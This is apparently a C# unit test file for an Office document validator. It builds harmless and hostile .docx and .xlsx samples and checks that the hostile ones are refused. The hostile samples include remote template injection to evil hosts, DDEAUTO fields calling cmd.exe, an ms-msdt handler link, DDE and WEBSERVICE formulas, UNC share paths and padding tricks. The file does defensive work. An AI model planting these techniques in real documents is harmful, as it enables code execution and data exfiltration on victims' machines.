namespace Mandates.Domain.Tests.Documents;

/// <summary>Word documents and workbooks that are what they say, and such as run or load something.</summary>
public class OfficeFileTests
{
    private const string Settings = "word/_rels/settings.xml.rels";
    private const string WordTypes = "wordprocessingml.document.main+xml";
    private const string Png = "\u0089PNG\r\n\u001A\n";

    public static TheoryData<string, string, MemoryStream> Honest => new()
    {
        { "a workbook", ".xlsx", Sent.Workbook() },
        { "a main part of another name", ".docx", Sent.Zip([("[Content_Types].xml", Sent.Types(("word/document2.xml", WordTypes))), ("_rels/.rels", Sent.Rels(("officeDocument", "/word/document2.xml"))), ("word/document2.xml", Sent.Body(""))]) },
        { "a strict document", ".docx", Sent.Word(("_rels/.rels", Sent.Rels(("http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument", "word/document.xml")))) },
        { "a link that has the name of a frame in it", ".docx", Sent.WordWith("hyperlink", "https://example.org/framework/oleObject?a=&lt;b") },
        { "a link to a mailbox", ".docx", Sent.WordWith("hyperlink", "mailto:mission@example.org") },
        { "a picture called Silvbach.png", ".docx", Sent.Word(("word/media/Silvbach.png", Png)) },
        { "an empty table of a thousand lines", ".docx", Sent.WordOf($"<w:tbl>{string.Concat(Enumerable.Repeat($"<w:tr>{string.Concat(Enumerable.Repeat("<w:tc><w:tcPr><w:tcW w:w=\"936\" w:type=\"dxa\"/></w:tcPr><w:p/></w:tc>", 10))}</w:tr>", 1000))}</w:tbl>") },
        { "fields that show what is in it", ".docx", Sent.WordOf(Field("PAGE", " \\* MERGEFORMAT ") + Field("TOC", " \\o \"1-3\" ") + """<w:fldSimple w:instr=" DATE \@ &quot;d MMMM&quot; "/><w:p><w:r><w:t>DDEAUTO is a word here</w:t></w:r></w:p>""") },
        { "the data of a chart", ".docx", Sent.Word(ChartWith("package", Sent.Workbook().AsText())) },
        { "words of an author in their own markup", ".docx", Sent.Word(("customXml/item1.xml", "<a xmlns=\"urn:own\"><altChunk/><fldSimple instr=\"DDE\"/></a>")) },
        { "a relationship list in UTF-16", ".docx", Sent.Word().Utf16("_rels/.rels", hasMark: true) },
        { "a text in windows-1252", ".docx", Sent.Word(("customXml/item1.xml", "<?xml version=\"1.0\" encoding=\"windows-1252\"?><a>x</a>")) },
        { "a formula with a bar and a mark in words", ".xlsx", Sent.Workbook(("xl/worksheets/sheet1.xml", Sent.Sheet("<f>\"a|b!\"&amp;HYPERLINK(\"https://example.org\")</f>"))) },
    };

    public static TheoryData<string, string, MemoryStream> Hostile => new()
    {
        { "no relationships", ".docx", Sent.Zip([("[Content_Types].xml", Sent.Types(("word/document.xml", WordTypes))), ("word/document.xml", Sent.Body(""))]) },
        { "two main parts", ".docx", Sent.Word(("_rels/.rels", Sent.Rels(("officeDocument", "word/document.xml"), ("officeDocument", "word/settings.xml")))) },
        { "a main part elsewhere", ".docx", Sent.Word(("_rels/.rels", Sent.Rels(("officeDocument", "https://evil.example/d.xml", "External")))) },
        { "a main part that is cut off", ".docx", Sent.Word(("word/document.xml", Sent.Body("")[..^12])) },
        { "a main part with another root", ".docx", Sent.Word(("word/document.xml", "<html/>")) },
        { "a workbook called a Word document", ".docx", Sent.Workbook() },
        { "a Word document called a workbook", ".xlsx", Sent.Word() },
        { "a template from elsewhere, with a reference in its address", ".docx", Sent.Word((Settings, Sent.Rels(("attachedTemplate", "http://evil/t.dotm?&lt;", "External")))) },
        { "a template behind blanks", ".docx", Sent.Word((Settings, $"<!-- -->{new string(' ', 1 << 20)}{Sent.Rels(("attachedTemplate", "http://evil/t.dotm", "External"))}")) },
        { "a template in UTF-16 without a mark", ".docx", Sent.Word((Settings, "<?xml version=\"1.0\" encoding=\"utf-16\"?>" + Sent.Rels(("attachedTemplate", "http://evil/t.dotm", "External")))).Utf16(Settings, hasMark: false) },
        { "a template that says it is internal", ".docx", Sent.Word((Settings, Sent.Rels(("attachedTemplate", "http://evil/t.dotm", "Internal")))) },
        { "a template within", ".docx", Sent.Word((Settings, Sent.Rels(("attachedTemplate", "t.dotm")))) },
        { "a mode that is no mode", ".docx", Sent.WordWith("image", "http://evil/a.png", "external ") },
        { "a linked picture", ".docx", Sent.WordWith("image", "http://evil/a.png") },
        { "a linked picture on a server", ".docx", Sent.WordWith("image", @"\\evil\share\a.png") },
        { "a linked picture called a link", ".docx", Sent.Word(("word/_rels/document.xml.rels", Sent.Rels(("hyperlink", "http://evil/a.png", "External"))), ("word/document.xml", Sent.Body("<a:blip xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" r:link=\"r1\"/>"))) },
        { "a picture by its address", ".docx", Sent.WordOf("<v:shape><v:imagedata src=\"http://evil/a.png\"/></v:shape>") },
        { "a link that runs", ".docx", Sent.WordWith("hyperlink", "java\tscript:alert(1)") },
        { "a link to a handler", ".docx", Sent.WordWith("hyperlink", "ms-msdt:/id PCWDiagnostic") },
        { "another text from elsewhere", ".docx", Sent.WordWith("aFChunk", "http://evil/a.html") },
        { "another text within", ".docx", Sent.Word(("word/_rels/document.xml.rels", Sent.Rels(("aFChunk", "afchunk.xml"))), ("word/afchunk.xml", "<html/>")) },
        { "a linked object", ".docx", Sent.WordWith("oleObject", "file:///C:/a.xls") },
        { "an object whose part has no ending", ".docx", Sent.Word(("word/_rels/document.xml.rels", Sent.Rels(("oleObject", "embeddings/object1"))), ("word/embeddings/object1", "x")) },
        { "an object in the markup", ".docx", Sent.WordOf("<w:object><o:OLEObject Type=\"Embed\" ProgID=\"Package\" r:id=\"r9\"/></w:object>") },
        { "a document part of an outline", ".docx", Sent.WordWith("subDocument", "http://evil/a.docx") },
        { "a frame", ".docx", Sent.WordWith("frame", "http://evil/a.html") },
        { "a document with macros within", ".docx", Sent.Word(("word/embeddings/x.docm", "x")) },
        { "a document within", ".docx", Sent.Word(("word/_rels/document.xml.rels", Sent.Rels(("package", "embeddings/data.xlsx"))), ("word/embeddings/data.xlsx", Sent.Workbook().AsText())) },
        { "a workbook with a macro in a chart", ".docx", Sent.Word(ChartWith("package", Sent.Workbook(("xl/vbaProject.bin", "x")).AsText())) },
        { "a chart of a workbook elsewhere", ".docx", Sent.Word(("word/charts/_rels/chart1.xml.rels", Sent.Rels(("externalLink", "file:///C:/a.xlsx", "External")))) },
        { "a script within", ".docx", Sent.Word(("word/run.js", "x")) },
        { "a script with a type", ".docx", Sent.Word(("[Content_Types].xml", Sent.Types(("word/document.xml", WordTypes), ("word/run.ps1", "application/xml"))), ("word/run.ps1", "<x/>")) },
        { "a screen saver within", ".docx", Sent.Word(("word/a.scr", "MZ")) },
        { "a part of no type", ".docx", Sent.Word(("word/notes.dat", "x")) },
        { "a part of a type that no text needs", ".docx", Sent.Word(("[Content_Types].xml", Sent.Types(("word/document.xml", WordTypes), ("word/a.dat", "application/octet-stream"))), ("word/a.dat", "x")) },
        { "macros whose type stands behind blanks", ".docx", Sent.Word(("[Content_Types].xml", new string(' ', 1 << 20).Insert(0, "<!-- -->") + Sent.Types(("word/document.xml", WordTypes), ("word/a.dat", "application/vnd.ms-office.vbaProject")))) },
        { "a ribbon of its own", ".docx", Sent.Word(("_rels/.rels", Sent.Rels(("officeDocument", "word/document.xml"), ("http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "customUI/customUI.xml")))) },
        { "a picture that is none", ".docx", Sent.Word(("word/media/a.png", "<script>alert(1)</script>")) },
        { "a text a thousand levels deep", ".docx", Sent.WordOf(string.Concat(Enumerable.Repeat("<w:sdt>", 1000)) + string.Concat(Enumerable.Repeat("</w:sdt>", 1000))) },
        { "an attribute as long as a book", ".docx", Sent.WordOf($"<w:p w:rsidR=\"{new string('a', 2_000_000)}\"/>") },
        { "such an attribute behind a comment that ends no tag", ".docx", Sent.WordOf($"<!-- <a ' --><w:p w:rsidR=\"{string.Concat(Enumerable.Repeat("'>", 1_000_000))}\"/>") },
        { "thousands of attributes", ".docx", Sent.WordOf($"<w:p {string.Concat(Enumerable.Range(0, 2000).Select(i => $"a{i}='' "))}/>") },
        { "a text with an unknown encoding", ".docx", Sent.Word(("word/document.xml", "<?xml version=\"1.0\" encoding=\"ebcdic-x\"?>" + Sent.Body(""))) },
        { "a field DDEAUTO", ".docx", Sent.WordOf(Field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")) },
        { "a field in pieces", ".docx", Sent.WordOf(Field(" D", "DE", "AUTO c:\\cmd.exe")) },
        { "a field of which a piece is text", ".docx", Sent.WordOf("<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:t>DD</w:t></w:r><w:r><w:instrText>E c</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>") },
        { "a field in a field", ".docx", Sent.WordOf($"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>IF 1=1 </w:instrText></w:r>{Field("INCLUDETEXT \"http://evil/a\"")}<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>") },
        { "a field that names its own kind", ".docx", Sent.WordOf($"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{Field("QUOTE 68 68 69")}<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>") },
        { "a field that is left open", ".docx", Sent.WordOf("<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>ddeauto c</w:instrText></w:r>") },
        { "a simple field", ".docx", Sent.WordOf("<w:fldSimple w:instr=\" INCLUDEPICTURE &quot;http://evil/a.png&quot; \\d \"/>") },
        { "a field in a header", ".docx", Sent.Word(("word/header1.xml", $"<w:hdr xmlns:w=\"{Sent.W}\">{Field("LINK Excel.Sheet.12 \"http://evil/a\"")}</w:hdr>")) },
        { "a workbook with a link to another", ".xlsx", Sent.Workbook(("xl/_rels/workbook.xml.rels", Sent.Rels(("worksheet", "worksheets/sheet1.xml"), ("externalLink", "externalLinks/externalLink1.xml")))) },
        { "a workbook with a connection", ".xlsx", Sent.Workbook(("xl/_rels/workbook.xml.rels", Sent.Rels(("worksheet", "worksheets/sheet1.xml"), ("connections", "connections.xml")))) },
        { "a workbook with a macro sheet", ".xlsx", Sent.Workbook(("xl/_rels/workbook.xml.rels", Sent.Rels(("worksheet", "worksheets/sheet1.xml"), ("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml")))) },
        { "a workbook with macros", ".xlsx", Sent.Workbook(("xl/vbaProject.bin", "x")) },
        { "a formula that asks a program", ".xlsx", Sent.Workbook(("xl/worksheets/sheet1.xml", Sent.Sheet("<f>cmd|'/C calc'!A0</f>"))) },
        { "a formula that asks the network", ".xlsx", Sent.Workbook(("xl/worksheets/sheet1.xml", Sent.Sheet("<f>_xlfn.WEBSERVICE(\"http://evil/\"&amp;B1)</f>"))) },
        { "a formula that asks a server", ".xlsx", Sent.Workbook(("xl/worksheets/sheet1.xml", Sent.Sheet(@"<f>'\\evil\share\[a.xlsx]A'!A1</f>"))) },
    };

    [Theory]
    [MemberData(nameof(Honest))]
    public void It_is_taken(string what, string extension, MemoryStream content) =>
        Assert.Null(FileKind.All[extension].Check(content, new()) is { } wrong ? $"{what}: {wrong}" : null);

    [Theory]
    [MemberData(nameof(Hostile))]
    public void It_is_refused(string what, string extension, MemoryStream content) => Assert.False(FileKind.All[extension].Check(content, new()) is null, what);

    private static string Field(params string[] pieces) =>
        $"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{string.Concat(pieces.Select(p => $"<w:r><w:instrText xml:space=\"preserve\">{p.Replace("\"", "&quot;", StringComparison.Ordinal)}</w:instrText></w:r>"))}<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";

    private static (string, string)[] ChartWith(string kind, string data) =>
    [
        ("word/charts/chart1.xml", "<c:chartSpace xmlns:c=\"http://schemas.openxmlformats.org/drawingml/2006/chart\"/>"),
        ("word/charts/_rels/chart1.xml.rels", Sent.Rels((kind, "../embeddings/data.xlsx"))),
        ("word/embeddings/data.xlsx", data),
    ];
}
